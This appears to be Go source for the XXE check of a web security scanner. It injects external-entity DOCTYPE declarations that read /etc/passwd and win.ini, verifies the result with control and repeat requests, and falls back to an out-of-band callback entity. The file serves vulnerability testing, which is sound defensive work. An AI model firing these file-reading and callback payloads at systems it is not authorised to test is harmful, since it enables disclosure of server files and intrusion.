package remote

import (
	"bytes"
	"context"
	"regexp"
	"strings"

	"github.com/vedette-sec/vedette/internal/webtest/check/kit"
	"github.com/vedette-sec/vedette/internal/webtest/client"
	"github.com/vedette-sec/vedette/internal/webtest/message"
	"github.com/vedette-sec/vedette/internal/webtest/proof"
)

// files are what entities name, with the grammar of the content.
var files = []struct{ address, missing, grammar string }{
	{"file:///etc/passwd", "file:///etc/passwq", `root:[^:\n]*:0:0:[^:\n]*:[^:\n]*:[^\s:]*[\s\S]{0,20}?[a-z_][a-z0-9_-]*:[^:\n]*:\d+:\d+:`},
	{"file:///c:/windows/win.ini", "file:///c:/windows/wim.ini", `(?i)\[(fonts|extensions|mci extensions)\]`},
}

// xxe is the check for entities. Two requests for each value of an XML body that is clean, and for each other value
// that is a document of XML, as in a form; one more for the out-of-band server; none for other values.
func xxe() kit.Check {
	c := kit.Check{ID: "xxe", Class: "xxe", Level: client.Safe}.Describe()
	c.Place = func(ctx context.Context, w *kit.World, t *kit.Target, p message.Place) error {
		if p.Key || (p.Format != message.XML || strings.Contains(p.Name, "@")) && !document.MatchString(p.Value) {
			return nil
		}
		for _, f := range files {
			grammar := regexp.MustCompile(f.grammar)
			first, err := w.Send(ctx, t, entity(t.Request, p, f.address))
			if err != nil {
				return err
			}
			match := grammar.FindString(kit.Shown(first.Body))
			if match == "" || t.Response != nil && grammar.Match(t.Response.Body) {
				continue
			}
			control, err := w.Send(ctx, t, entity(t.Request, p, f.missing))
			if err != nil || grammar.MatchString(kit.Shown(control.Body)) {
				return err
			}
			again, err := w.Send(ctx, t, entity(t.Request, p, f.address))
			if err != nil || !grammar.MatchString(kit.Shown(again.Body)) {
				return err
			}
			user, users := kit.Names(t.User)
			w.Found(&c, kit.Finding{Request: first.Request, Place: p, Payload: f.address, Detail: f.address,
				Evidence: []kit.Evidence{
					{Request: first.Request, Response: first, Match: match[:min(len(match), 300)],
						Note: "the content of " + f.address},
					{Request: control.Request, Response: control, Note: "a name of no file does not bring it"},
				},
				Proof: &proof.Program{About: "An external entity brings the content of a file.", Users: users, Steps: []proof.Step{
					{ID: "file", As: user, Send: entity(t.Request, p, f.address), Expect: []proof.Expect{{What: proof.Matches, Value: f.grammar}}},
					{ID: "missing", As: user, Send: entity(t.Request, p, f.missing), Expect: []proof.Expect{{What: proof.Matches, Value: f.grammar, Not: true}}},
				}}})
			return nil
		}
		if w.OAST == nil || !w.Once("xxe oob "+t.Request.Key()) {
			return nil
		}
		return call(ctx, waiting{check: &c, target: t, place: p, write: func(address string) *message.Request {
			return entity(t.Request, p, "http://"+address+"/")
		}}, w)
	}
	return c
}

// document is a text that is a document of XML with a text in it.
var document = regexp.MustCompile(`(?s)^\s*(?:<\?xml[^>]*\?>)?\s*<[A-Za-z][\w:.-]*(?:\s[^<>]*)?>.*>[^<>]*[^<>\s][^<>]*</[\w:.-]+>.*</[\w:.-]+>\s*$|` +
	`^\s*(?:<\?xml[^>]*\?>)?\s*<[A-Za-z][\w:.-]*>[^<>]+</[\w:.-]+>\s*$`)

// texts are the texts between the tags of a document.
var texts = regexp.MustCompile(`>[^<>]*[^<>\s][^<>]*</`)

var prolog = regexp.MustCompile(`^\s*<\?xml[^>]*\?>`)
var doctype = regexp.MustCompile(`(?is)<!DOCTYPE[^>\[]*(\[.*?\])?\s*>`)

// entity is a request whose document declares an external entity and has it at a place.
func entity(r *message.Request, p message.Place, address string) *message.Request {
	name := "e" + kit.Word()
	if p.Format != message.XML {
		return r.Put(p, string(declare(texts.ReplaceAll([]byte(p.Value), []byte(">&"+name+";</")), name, address)))
	}
	out := r.PutRaw(p, "&"+name+";")
	out.Body = declare(out.Body, name, address)
	return out
}

// declare is a document with the declaration of an entity.
func declare(document []byte, name, address string) []byte {
	document = doctype.ReplaceAll(document, nil)
	declared := []byte(`<!DOCTYPE r [<!ENTITY ` + name + ` SYSTEM "` + address + `">]>`)
	head := prolog.Find(document)
	return bytes.Join([][]byte{head, declared, document[len(head):]}, nil)
}
